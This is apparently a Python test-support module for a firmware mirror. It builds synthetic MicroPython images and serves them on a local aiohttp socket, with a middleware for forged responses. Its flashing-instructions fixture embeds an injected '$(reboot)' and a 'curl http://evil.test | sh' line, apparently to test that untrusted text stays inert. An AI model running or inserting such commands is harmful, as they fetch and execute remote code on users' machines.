"""A mirror in the room: synthetic images that were really judged, served on a real socket."""

from __future__ import annotations

from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from functools import cache
from typing import TYPE_CHECKING, Any

from aiohttp import web

from mirror.catalog.kinds import Kind
from mirror.catalog.model import BoardFacts, Passage, PassageKind
from mirror.catalog.names import ArtifactName
from mirror.catalog.values import Digest
from mirror.claims import claim_of_listing
from mirror.formats.verify import verify
from mirror.publication.documents import decode_publication, encode
from mirror.publication.keys import KEY_PATH
from mirror.publication.statements import Statement, Type
from mirror.publication.tree import HeldArtifact, render_board
from mirror.web.app import SHELF, Serving, make_app
from mirror.web.listening import tcp_sockets
from mirror.web.server import serving
from tests.replica.images import Recipe, make_image
from tests.web.building import Builder, opened
from tests.web.conftest import NODE, status

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
    from pathlib import Path

    from aiohttp.typedefs import Handler

    from mirror.formats.verdict import Verdict
    from mirror.publication.documents import BoardDocument
    from mirror.transfer.keys.node_keys import NodeSigner

    Reply = Callable[[web.Request], Awaitable[web.StreamResponse]]

ROOT = "/v1/root.json"

PICO = Recipe("rp2", "rp2040", "RPI_PICO_W", None, "v1.28.0", "2026-04-06", Kind.UF2, size=200_000)
PICO_OLD = replace(PICO, version="v1.27.0", date="2025-12-09")
PICO_PREVIEW = replace(PICO, version="v1.29.0-preview.678.g5f2181f938", date="2026-08-07")
ESP = Recipe("esp32", "esp32", "ESP32_GENERIC", None, "v1.28.0", "2026-04-06", Kind.BIN)
ESP_APP = replace(ESP, kind=Kind.APP_BIN)
ESP_SPIRAM = replace(ESP, variant="SPIRAM")
S3 = Recipe("esp32", "esp32s3", "ESP32_GENERIC_S3", None, "v1.28.0", "2026-04-06", Kind.BIN)
S3_UF2 = replace(S3, kind=Kind.UF2)
PYBOARD = Recipe("stm32", "stm32f4", "PYBV11", None, "v1.28.0", "2026-04-06", Kind.DFU)
TEENSY = Recipe("mimxrt", "mimxrt", "TEENSY41", None, "v1.28.0", "2026-04-06", Kind.HEX)

ALL = (
    PICO, PICO_OLD, PICO_PREVIEW, ESP, ESP_APP, ESP_SPIRAM, S3, S3_UF2, PYBOARD, TEENSY
)  # fmt: skip

INSTRUCTIONS = (
    Passage(PassageKind.PARAGRAPH, "Hold down BOOTSEL while plugging in; $(reboot)"),
    Passage(PassageKind.CODE, "esptool.py erase_flash && curl http://evil.test | sh"),
)


def name_of(recipe: Recipe) -> str:
    """Return the name that upstream gives the file of *recipe*."""
    variant = f"-{recipe.variant}" if recipe.variant else ""
    day = recipe.date.replace("-", "")
    return f"{recipe.board}{variant}-{day}-{recipe.version}.{recipe.kind}"


def boards_of(recipes: Sequence[Recipe]) -> list[BoardDocument]:
    """Return the documents of the boards of *recipes*, with the verdicts of real judgement."""
    boards: dict[str, list[Recipe]] = {}
    for recipe in recipes:
        boards.setdefault(recipe.board, []).append(recipe)
    return [_board(board, boards[board]) for board in sorted(boards)]


def _board(board: str, recipes: Sequence[Recipe]) -> BoardDocument:
    facts = BoardFacts(
        board=board,
        page=f"https://micropython.org/download/{board}/",
        product=board.title(),
        port=recipes[0].port,
        mcu=recipes[0].mcu,
        instructions=INSTRUCTIONS,
    )
    return render_board(facts, [_held(recipe, facts) for recipe in recipes], {})


def _held(recipe: Recipe, facts: BoardFacts) -> HeldArtifact:
    name, data = ArtifactName.parse(name_of(recipe)), make_image(recipe)
    source = f"https://micropython.org/resources/firmware/{name}"
    return HeldArtifact(name, source, Digest.of(data), len(data), None, _verdict(recipe, facts))


@cache
def _verdict(recipe: Recipe, facts: BoardFacts) -> Verdict:
    """Judge the image of *recipe*, once for all tests."""
    name = ArtifactName.parse(name_of(recipe))
    verdict = verify(make_image(recipe), claim_of_listing(name, facts))
    assert verdict.accepted, verdict
    return verdict


@dataclass(slots=True)
class MirrorRoom:
    """A mirror at ``url``; what is put into ``forged`` is answered for that path instead.

    ``asked`` are the paths that were asked for, with the range if there was one.
    """

    url: str
    builder: Builder
    app: web.Application
    asked: list[tuple[str, str | None]] = field(default_factory=list)
    forged: dict[str, bytes | Reply] = field(default_factory=dict)
    signed: dict[Digest, dict[str, str]] = field(default_factory=dict)

    async def sign(self, signer: NodeSigner, **changes: Any) -> None:  # noqa: ANN401 - any field
        """Sign the current root, with *changes* to what is said of it, and show the key."""
        data = await self.root()
        root = decode_publication(data)
        said = Statement(Type.PUBLICATION, root.lineage, root.sequence)
        self.signed[Digest.of(data)] = signer.sign(data, replace(said, **changes))
        self.forged[KEY_PATH] = signer.public_key.encode()

    async def publish(self, *recipes: Recipe, recalled: Sequence[bytes] = ()) -> Digest:
        """Publish the images of *recipes*, and serve that."""
        await self.builder.store.blobs.put_many([make_image(recipe) for recipe in recipes])
        root = await self.builder.publish_documents(boards_of(recipes), recalled)
        await self.refresh()
        return root

    async def refresh(self) -> None:
        """Serve what was published last."""
        await self.app[SHELF].refresh()

    async def root(self, **changes: object) -> bytes:
        """Return the current root with *changes*, encoded."""
        current = await self.builder.store.publications.current()
        assert current is not None
        data = await self.builder.store.blobs.read(current, max_bytes=1 << 20)
        return encode(replace(decode_publication(data), **changes))  # type: ignore[arg-type]


@asynccontextmanager
async def mirror_in(folder: Path) -> AsyncIterator[MirrorRoom]:
    """Serve an empty mirror that keeps its data in *folder*."""
    store = opened(folder)
    signed: dict[Digest, dict[str, str]] = {}

    async def signatures(digest: Digest) -> dict[str, str]:
        return signed.get(digest, {})

    app = make_app(store, Serving(node=NODE, status=status, signatures=signatures))
    sockets = await tcp_sockets("127.0.0.1", 0)
    room = MirrorRoom(f"http://127.0.0.1:{sockets[0].getsockname()[1]}", Builder(store), app)
    room.signed = signed

    @web.middleware
    async def forging(request: web.Request, handler: Handler) -> web.StreamResponse:
        room.asked.append((request.path, request.headers.get("Range")))
        forged = room.forged.get(request.path)
        if forged is None:
            return await handler(request)
        if isinstance(forged, bytes):
            return web.Response(body=forged)
        return await forged(request)

    app.middlewares.insert(0, forging)
    async with serving(app, sockets):
        yield room
